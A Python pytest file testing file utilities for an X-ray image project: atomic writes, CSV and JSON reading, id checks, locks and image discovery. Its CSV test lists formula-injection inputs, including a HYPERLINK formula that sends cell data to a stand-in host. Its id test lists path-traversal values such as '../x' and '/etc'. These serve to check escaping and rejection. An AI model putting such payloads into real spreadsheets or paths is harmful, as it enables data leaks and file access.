"""Atomic files, ids that cannot leave their folder, and the competition wherever it is mounted."""

import errno
import fcntl
import logging
import math
import os
from functools import partial
from threading import Thread

import numpy as np
import pandas as pd
import pytest

from common.errors import InputError
from common.infer.predict import write_masks
from common.paths import (
    atomic_path,
    check_id,
    competition_file,
    escape_formulas,
    find_images,
    list_folders,
    list_images,
    lock,
    lock_folder,
    name_images,
    read_array,
    read_csv,
    read_json,
    read_parquet,
    remove_leftovers,
    write_csv,
    write_json,
    write_text,
)


def names(folder):
    return sorted(path.name for path in folder.iterdir())


def test_atomic_path_replaces_and_makes_folders(tmp_path):
    path = tmp_path / "a" / "b" / "table.csv"
    with atomic_path(path) as temporary:
        assert temporary.suffix == ".csv" and temporary.parent == path.parent and temporary.match(".cxr-*.tmp.csv")
        temporary.write_text("new")
        assert not path.exists()
    assert path.read_text() == "new" and names(path.parent) == ["table.csv"]
    write_text(path, "é")
    assert path.read_bytes() == "é".encode()


def test_leftovers_are_removed_and_nothing_else(tmp_path):
    (tmp_path / "a").mkdir()
    for folder in (tmp_path, tmp_path / "a"):
        for name in (".cxr-0123abcd-77.tmp.npy", ".cxr-notes", ".mine.tmp.csv", "a.tmp"):
            (folder / name).touch()
    remove_leftovers(tmp_path)
    assert names(tmp_path) == [".cxr-notes", ".mine.tmp.csv", "a", "a.tmp"] and len(names(tmp_path / "a")) == 4
    remove_leftovers(tmp_path, "**/")
    assert names(tmp_path / "a") == [".cxr-notes", ".mine.tmp.csv", "a.tmp"]
    remove_leftovers(tmp_path / "missing")


@pytest.mark.parametrize("error", [ValueError, KeyboardInterrupt, SystemExit])
def test_atomic_path_keeps_the_old_file_on_an_error(error, tmp_path):
    path = tmp_path / "weights.bin"
    path.write_text("old")
    with pytest.raises(error), atomic_path(path) as temporary:
        temporary.write_text("half")
        raise error
    assert path.read_text() == "old" and names(tmp_path) == ["weights.bin"]


def test_atomic_path_names_the_file_of_a_full_disk(tmp_path, monkeypatch):
    def full(_):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space left") as error:
        write_text(tmp_path / "x.txt", "text")
    assert error.value.filename == str(tmp_path / "x.txt") and names(tmp_path) == []


def test_json(tmp_path):
    write_json(tmp_path / "a.json", {"b": [1, 0.5, None]})
    assert read_json(tmp_path / "a.json") == {"b": [1, 0.5, None]}
    with pytest.raises(ValueError, match="not JSON compliant"):
        write_json(tmp_path / "a.json", {"b": math.nan})
    assert read_json(tmp_path / "a.json") == {"b": [1, 0.5, None]}
    (tmp_path / "a.json").write_bytes(b'{"b": [1,')
    (tmp_path / "deep.json").write_text("[" * 100_000)
    for name, said in (("a.json", "not a JSON file"), ("deep.json", "not a JSON file"), ("c.json", "no such file")):
        with pytest.raises(InputError, match=f"{name}: {said}"):
            read_json(tmp_path / name)


def test_a_spreadsheet_runs_nothing_of_a_csv(tmp_path):
    unsafe = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "-x", "@SUM(A1)", "\t=1", "\n=1", "＝1", "--1", "-"]
    safe = ["-1.5", "+2e-3", "1=1", " =1", "", "a", "–", "'=1", "-0.0"]
    table = pd.DataFrame({"=text": [*unsafe, *safe], "kind": pd.Categorical(["-x"] * 19), "x": np.linspace(-1, 1, 19)})
    write_csv(tmp_path / "t.csv", table)
    read = pd.read_csv(tmp_path / "t.csv", dtype={"'=text": str, "x": float}, keep_default_na=False)
    assert read["'=text"].tolist() == [*(f"'{text}" for text in unsafe), *safe]
    assert set(read["kind"]) == {"'-x"} and read["x"].tolist() == table["x"].tolist()
    write_csv(tmp_path / "t.csv", pd.DataFrame({"a": ["x\r=1"], "b": ["\r=1"]}))
    assert (tmp_path / "t.csv").read_bytes() == b'a,b\n"x\n=1","\'\n=1"\n'
    plain = pd.DataFrame({"a": [-1, 2], "b": ["x", None], "c": [True, False], "d": [-0.1, np.nan]})
    write_csv(tmp_path / "t.csv", plain)
    assert (tmp_path / "t.csv").read_text() == plain.to_csv(index=False)
    assert escape_formulas(read).equals(read)  # a second call adds no apostrophe


@pytest.mark.parametrize(
    ("read", "name"),
    [
        (read_parquet, "t.parquet"),
        (read_array, "t.npy"),
        (read_array, "t.b2nd"),
        (partial(read_csv, columns=["a"]), "t.csv"),
    ],
)
def test_damaged_tables_and_arrays_are_named(read, name, tmp_path):
    path, table = tmp_path / name, pd.DataFrame({"a": range(100)})
    table.to_parquet(tmp_path / "t.parquet")
    table.to_csv(tmp_path / "t.csv")
    np.save(tmp_path / "t.npy", np.arange(100))
    write_masks(tmp_path / "t.b2nd", (100, 2, 2), [np.zeros((100, 2, 2), np.uint8)])
    assert len(read(path)) == 100
    for content in (b"", b"nonsense", b"\xff\xfe\x00\x01\x02", b'a,b\n"1,2\n3,4,5,6\n', path.read_bytes()[:300]):
        if (name, len(content)) == ("t.csv", 300):
            continue  # a table of fewer rows
        path.write_bytes(content)
        with pytest.raises(InputError, match=f"{name}: damaged [a-z]+ .*delete it and run again") as error:
            read(path)
        assert "\n" not in str(error.value)
    path.unlink()
    with pytest.raises(InputError, match=f"{name}: no such file"):
        read(path)


def test_ids():
    for good in ("1.2.276.0.7230010.3", "a", "00000001_000", "id-7", "Viral Pneumonia-1", "Röntgen (2)", "é" * 100):
        assert check_id(good, "t.csv, row 2") == good
    bad = [
        "",
        ".",
        "..",
        "../x",
        "a/b",
        "a\\b",
        "/etc",
        ".hidden",
        "-x",
        "a..b",
        " a",
        "a ",
        "a\n",
        "a\0",
        "é" * 101,
        "a\udcf6",
    ]
    for image_id in (*bad, None, 7, math.nan):
        with pytest.raises(InputError, match=r"^t\.csv, row 2: .* is not a usable id"):
            check_id(image_id, "t.csv, row 2")


def test_a_folder_is_locked_once(tmp_path):
    with lock_folder(tmp_path / "a", ""), pytest.raises(InputError, match="a: another process is busy"):
        lock_folder(tmp_path / "a", "busy").__enter__()
    with lock_folder(tmp_path / "a", ""):
        pass


def test_find_images(tmp_path):
    hidden = (".git/annex/b.png", ".Trash-1000/c.jpeg", "t/.ipynb_checkpoints/b-checkpoint.png", "@eaDir/b.png")
    for name in ("s/1.2.dcm", "t/u/b.PNG", "c.jpeg", "._d.dcm", "e.txt", "f.csv.gz", "g.dicom", *hidden):
        path = tmp_path / "data" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "h.jpg").write_text("")
    (tmp_path / "data" / "link").symlink_to(tmp_path / "elsewhere")
    dicom = bytes(128) + b"DICM"  # known by content, unless another suffix says what they are
    for name, content in (
        ("1.2.840.44", dicom),
        ("IM0001", dicom),
        ("x.bin", dicom),
        ("LICENSE", b"MIT"),
        ("3.11", b""),
    ):
        (tmp_path / "data" / name).write_bytes(content)
    (tmp_path / "data" / "nowhere").symlink_to("gone")
    (tmp_path / "data" / "t" / "up").symlink_to(tmp_path / "data")
    found = find_images(tmp_path / "data")
    assert sorted(found) == ["1.2", "1.2.840.44", "IM0001", "b", "c", "g", "h"]
    assert found["1.2"] == tmp_path / "data" / "s" / "1.2.dcm"
    (tmp_path / "data" / "c.dcm").write_text("")
    with pytest.raises(InputError, match=r"a second image named 'c'; the first is .*c\.dcm"):
        find_images(tmp_path / "data")
    with pytest.raises(InputError, match="no such folder"):
        find_images(tmp_path / "none")


def test_images_of_the_same_name_get_their_paths_as_ids(tmp_path):
    names = ("p1/s1/view1.jpg", "p2/s1/view1.jpg", "p2/other.png", "p3/R\udcf6ntgen.png")
    for name in names:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).touch()
    found = name_images(list_images(tmp_path), tmp_path)
    assert {name: path.relative_to(tmp_path).as_posix() for name, path in found.items()} == dict(
        zip(("p1/s1/view1", "p2/s1/view1", "other", "R%F6ntgen"), names, strict=True)
    )
    (tmp_path / "p1" / "s1" / "view1.png").touch()
    with pytest.raises(InputError, match=r"view1\.png: a second image named 'p1/s1/view1'; the first is .*view1\.jpg"):
        name_images(list_images(tmp_path), tmp_path)


def test_hidden_folders_hold_no_competition(tmp_path):
    for place in (".Trash-1000", "inner"):
        (tmp_path / place).mkdir()
        (tmp_path / place / "train.csv").touch()
    assert competition_file(tmp_path, "siim", ["train.csv"]).parent == tmp_path / "inner"
    assert list_folders(tmp_path) == [tmp_path, tmp_path / "inner"]


def test_locks(tmp_path, monkeypatch, caplog):
    with open(tmp_path / "a", "w") as first, open(tmp_path / "a", "w") as second:
        lock(first, "a", "busy")
        with pytest.raises(InputError, match=r"^a: another process is busy"):
            lock(second, "a", "busy")
        waiting = Thread(target=lock, args=(second, "a", "busy", True))
        waiting.start()
        waiting.join(0.05)
        assert waiting.is_alive()
        fcntl.flock(first, fcntl.LOCK_UN)
        waiting.join(10)
        assert not waiting.is_alive()

        def fail(*_):
            raise OSError(errno.ENOLCK, "No locks available")

        monkeypatch.setattr(fcntl, "flock", fail)
        monkeypatch.setattr(logging.getLogger("common"), "propagate", True)
        with caplog.at_level("INFO"):
            lock(first, "a", "busy")
    assert "a: cannot be locked (No locks available)" in caplog.text


@pytest.mark.parametrize("place", ["competitions/siim", "siim", "datasets/someone/siim", "competitions/siim/inner"])
def test_competitions_on_kaggle(place, tmp_path):
    (tmp_path / place).mkdir(parents=True)
    (tmp_path / place / "train.csv").write_text("")
    assert competition_file(None, "siim", ["train.csv"], inputs=tmp_path).parent == tmp_path / place
    with pytest.raises(InputError, match=r"no test\.csv under .*--data"):
        competition_file(None, "siim", ["test.csv"], inputs=tmp_path)


def test_competitions_where_the_user_says(tmp_path):
    (tmp_path / "unzipped").mkdir()
    (tmp_path / "unzipped" / "train.csv").write_text("")
    for data in (tmp_path, tmp_path / "unzipped", str(tmp_path)):
        assert competition_file(data, "siim", ["train.csv"]).parent == tmp_path / "unzipped"
    for data, said in (("none", "no such folder"), ("unzipped/train.csv", "no such folder")):
        with pytest.raises(InputError, match=said):
            competition_file(tmp_path / data, "siim", ["train.csv"])
    with pytest.raises(InputError, match=r"no labels\.csv in it"):
        competition_file(tmp_path, "siim", ["labels.csv"])
    with pytest.raises(InputError, match=r"no train\.csv under .*nothing"):
        competition_file(None, "siim", ["train.csv"], inputs=tmp_path / "nothing")
